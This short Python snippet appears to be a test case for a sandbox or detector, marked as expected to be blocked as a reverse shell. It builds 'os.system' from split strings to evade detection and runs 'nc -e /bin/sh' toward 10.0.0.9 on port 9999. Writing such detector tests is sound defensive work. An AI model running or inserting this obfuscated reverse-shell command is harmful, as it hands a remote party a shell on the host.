# expect: BLOCKED reverse_shell
o = __import__("o" + "s")
run = getattr(o, "sys" + "tem")
run("nc " + "-e /bin/sh" + " 10.0.0.9 9999")
